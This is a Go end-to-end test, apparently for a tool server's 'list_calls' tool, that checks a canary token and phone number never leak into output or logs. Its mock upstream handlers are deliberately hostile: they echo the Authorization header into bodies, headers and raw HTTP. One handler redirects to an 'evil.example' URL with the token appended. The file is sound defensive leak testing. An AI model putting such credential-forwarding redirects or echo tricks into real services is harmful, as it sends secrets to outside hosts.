package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"strconv"
	"strings"
	"testing"
)

// canaryNumber is a phone number that is searched for, and that no log may show.
const canaryNumber = "+12025550177"

// Whatever the API answers, no output shows the token and no log shows the number, not
// even at debug. Each call of the real process asks for another page, and each page has
// an answer of its own.
func TestCanariesSingNowhere(t *testing.T) {
	t.Parallel()
	row := func(value string) string {
		q, _ := json.Marshal(value)
		return fmt.Sprintf(`{"id":%[1]s,"sid":%[1]s,"to":%[1]s,"to_formatted":%[1]s,"from":%[1]s,"direction":%[1]s,`+
			`"status":%[1]s,"duration":%[1]s,"agent":{"id":%[1]s,"name":%[1]s,"label":%[1]s},"created_at":%[1]s}`, q)
	}
	says := func(status int, body func(echo string) string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(status)
			io.WriteString(w, body(r.Header.Get("Authorization")+" "+r.URL.RawQuery))
		}
	}
	message := func(echo string) string {
		q, _ := json.Marshal(echo)
		return fmt.Sprintf(`{"success":false,"message":%s}`, q)
	}
	// raw answers with bytes that need not be HTTP.
	raw := func(answer func(r *http.Request) string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			c, _, err := http.NewResponseController(w).Hijack()
			if err != nil {
				return
			}
			defer c.Close()
			io.WriteString(c, answer(r))
		}
	}
	tests := []struct {
		name string
		api  http.HandlerFunc
		want string // in the answer
	}{
		{"401 with an echo", says(401, message), "401"},
		{"400 with an echo", says(400, message), "400"},
		{"500 with an echo", says(500, message), "500"},
		{"429 with an echo", says(429, message), "limit"},
		{"200 with an echo", says(200, message), "failed"},
		{"HTML with an echo", says(200, func(echo string) string { return "<html>" + echo + "</html>" }), "JSON"},
		{"JSON with an echo", says(200, func(echo string) string { return `{"data":[` + echo }), "JSON"},
		{"no list, an echo", says(200, func(echo string) string { return `{"` + echo + `":1}` }), "JSON"},
		{"a code of the echo", says(403, func(echo string) string { return `{"error":{"code":"` + echo + `"}}` }),
			"403"},
		{"a code of the token", says(403, func(string) string {
			return `{"error":"` + canary + `","message":"` + strings.Repeat("x", 290) + canary + `"}`
		}), "403"},
		{"a token in escapes", says(400, func(string) string {
			escaped := ""
			for _, r := range canary {
				escaped += fmt.Sprintf(`\u%04x`, r)
			}
			return `{"message":"` + escaped + `"}`
		}), "400"},
		{"a token in pieces", says(400, func(string) string {
			return `{"message":"` + canary[:9] + "\u200b" +
				canary[9:] + `"}`
		}), "400"},
		{"fields of the echo", says(422, func(echo string) string {
			return `{"errors":{"search":["` + echo + `"],"` + echo + `":["no"]}}`
		}), "422"},
		{"rows with an echo", says(200, func(echo string) string {
			return `{"success":true,"data":[` + row(echo) + "," + row(canary) + `],"pagination":{"total":2}}`
		}), "2 calls match"},
		{"a redirect", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Location", "https://evil.example/?"+r.Header.Get("Authorization")+r.URL.RawQuery)
			w.WriteHeader(http.StatusFound)
		}, "redirect"},
		{"headers with an echo", func(w http.ResponseWriter, r *http.Request) {
			for _, name := range []string{"Retry-After", "X-RateLimit-Limit", "X-RateLimit-Remaining",
				"X-RateLimit-Reset", "Content-Type", "Content-Encoding"} {
				w.Header().Set(name, r.Header.Get("Authorization")+r.URL.RawQuery)
			}
			w.WriteHeader(http.StatusTooManyRequests)
		}, "limit"},
		{"an echo for a status", raw(func(r *http.Request) string {
			return "HTTP/1.1 200 " + r.Header.Get("Authorization") + r.RequestURI + "\r\n\r\n"
		}), "JSON"},
		{"the request itself", raw(func(r *http.Request) string {
			return r.Method + " " + r.RequestURI + " " +
				r.Proto + "\r\n\r\n"
		}), "broke off"},
		{"an echo for a header", raw(func(r *http.Request) string {
			return "HTTP/1.1 200 OK\r\n" + r.Header.Get("Authorization") + r.RequestURI + "\r\n\r\n"
		}), "broke off"},
		{"an echo for a length", raw(func(r *http.Request) string {
			return "HTTP/1.1 200 OK\r\nContent-Length: " + r.Header.Get("Authorization") + "\r\n\r\n"
		}), "broke off"},
		{"hangs up", raw(func(*http.Request) string { return "" }), "broke off"},
		{"never answers", func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() }, "in time"},
		{"stops halfway", func(w http.ResponseWriter, r *http.Request) {
			io.WriteString(w, `{"success":true,"data":[`+row(r.Header.Get("Authorization")))
			_ = http.NewResponseController(w).Flush()
			<-r.Context().Done()
		}, "in time"},
	}
	api := func(w http.ResponseWriter, r *http.Request) {
		if page, err := strconv.Atoi(r.URL.Query().Get("page")); err == nil && page >= 1 && page <= len(tests) {
			tests[page-1].api(w, r)
		}
	}
	call := `{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"list_calls",` +
		`"arguments":{"search":%q,%s}}}` + "\n"
	prompt := hello + fmt.Sprintf(call, 0, canaryNumber, `"limit":"`+canaryNumber+`"`)
	late := hello
	for i, test := range tests {
		asks := fmt.Sprintf(call, i+1, canaryNumber, fmt.Sprintf(`"page":%d`, i+1))
		if test.want == "in time" {
			late += asks
		} else {
			prompt += asks
		}
	}
	env := upstream(t, api)
	answers, stderr := exchange(t, command(t, append(env, "TALKOVER_TIMEOUT="+upstreamTimeout.String())), prompt)
	inVain, told := exchange(t, command(t, append(env, "TALKOVER_TIMEOUT=500ms")), late)
	maps.Copy(answers, inVain)
	stderr += told
	part := canary[:10] // a part of a token must not show either
	near := func(s, what string) string {
		at := strings.Index(s, what)
		return s[max(at-100, 0):min(at+100, len(s))]
	}
	for i, test := range tests {
		got := string(answers[strconv.Itoa(i+1)])
		if !strings.Contains(got, test.want) {
			t.Errorf("%s: no %q in %.500s", test.name, test.want, got)
		}
		if strings.Contains(got, part) {
			t.Errorf("%s: the token is in stdout: ...%s", test.name, near(got, part))
		}
	}
	if len(answers) != len(tests)+2 || strings.Contains(string(answers["0"])+string(answers["hello"]), part) {
		t.Errorf("%d answers", len(answers))
	}
	for _, secret := range []string{part, canaryNumber[3:]} {
		if strings.Contains(stderr, secret) {
			t.Errorf("%s is in stderr: ...%s", secret, near(stderr, secret))
		}
	}
	if n := strings.Count(stderr, `"level":"DEBUG"`); n < len(tests) {
		t.Errorf("%d lines at debug", n)
	}
}
